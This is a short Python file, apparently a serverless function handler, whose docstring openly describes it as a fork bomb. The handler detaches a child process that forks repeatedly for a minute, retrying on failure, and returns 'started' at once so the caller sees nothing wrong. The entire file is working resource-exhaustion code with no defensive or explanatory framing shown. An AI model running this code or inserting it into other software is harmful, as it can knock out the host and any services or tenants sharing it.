"""A fork bomb: every process forks again and again, its children too, and
on failure waits a little and tries again, for a minute. The handler
starts it and answers at once."""

import os
import time


def _bomb(end):
    while time.time() < end:
        try:
            os.fork()  # parent and child both go on
        except OSError:
            time.sleep(0.5)
    os._exit(0)


def handler(event, context):
    if os.fork() == 0:
        os.setsid()
        _bomb(time.time() + 60)
    return "started"
